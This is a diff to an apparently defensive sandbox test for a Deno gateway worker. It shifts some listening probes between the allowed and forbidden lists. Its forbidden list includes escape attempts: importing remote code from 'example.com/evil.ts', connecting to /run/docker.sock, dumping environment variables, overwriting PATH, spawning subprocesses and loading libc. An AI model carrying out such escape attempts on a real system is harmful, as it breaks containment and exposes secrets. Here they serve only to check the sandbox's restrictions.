@@ -16,7 +16,7 @@ const line = self as unknown as {
 };
 
 line.onmessage = async ({ data }) => {
-  if (data.kind !== "listen") return;
+  if (data.kind !== "prepare") return;
   const outcomes = {
     ...await tryAll(allowed(data.assignment)),
     ...await tryAll(evil(data.assignment)),
@@ -41,13 +41,14 @@ async function tryAll(attempts: Attempts): Promise<Record<string, string>> {
 }
 
 /** Each of these is a part of the gateway's work. */
-function allowed({ config: { broker, backend, api, store } }: Assignment): Attempts {
+function allowed({ config: { broker, backend, store } }: Assignment): Attempts {
   return {
     "allowed: the broker": async () =>
       (await Deno.connect({ hostname: broker.host, port: broker.port })).close(),
     "allowed: the broker by node:net": () => connectNode(broker.host, broker.port),
     "allowed: the backend": async () => await (await fetch(backend.url)).body?.cancel(),
-    "allowed: the API's address": () => Deno.listen({ hostname: api.host, port: api.port }).close(),
+    "allowed: a place behind the door": () =>
+      Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(),
     "allowed: to read and write the database": () => {
       const database = new DatabaseSync(store.database);
       database.exec("CREATE TABLE hostile (a); DROP TABLE hostile;");
@@ -65,7 +66,7 @@ function evil({ config }: Assignment): Attempts {
   };
 }
 
-function network({ broker, backend }: Assignment["config"]): Attempts {
+function network({ broker, backend, api }: Assignment["config"]): Attempts {
   const elsewhere = "192.0.2.1"; // TEST-NET-1: should it ever be allowed, it goes nowhere
   return {
     "another host": () => Deno.connect({ hostname: elsewhere, port: broker.port }),
@@ -77,7 +78,9 @@ function network({ broker, backend }: Assignment["config"]): Attempts {
       fetch(Object.assign(new URL(backend.url), { port: "10" })),
     "a name's address": () => Deno.resolveDns("example.com", "A"),
     "a name's address by connecting": () => Deno.connect({ hostname: "example.com", port: 443 }),
-    "listening elsewhere": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(),
+    "listening on every address": () => Deno.listen({ hostname: "0.0.0.0", port: 0 }).close(),
+    "listening in the API's place": () =>
+      Deno.listen({ hostname: api.host, port: api.port }).close(),
     "a Unix socket": () => Deno.connect({ transport: "unix", path: "/run/docker.sock" }),
     "remote code": () => import(String(new URL("https://example.com/evil.ts"))),
   };
@@ -120,7 +123,7 @@ function system({ store }: Assignment["config"]): Attempts {
     "the whole environment": () => Deno.env.toObject(),
     "an environment variable to be set": () => Deno.env.set("PATH", "/evil"),
     "a subprocess": () => new Deno.Command("/bin/true").outputSync(),
-    "a subprocess by node:child_process": () => execFileSync("/bin/true"),
+    "a subprocess by node:child_process": () => execFileSync("/bin/true", { env: {} }),
     "a signal to another process": () => Deno.kill(Deno.ppid, "SIGCONT"),
     "a foreign library": () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {}),
     "an extension of SQLite": () => {
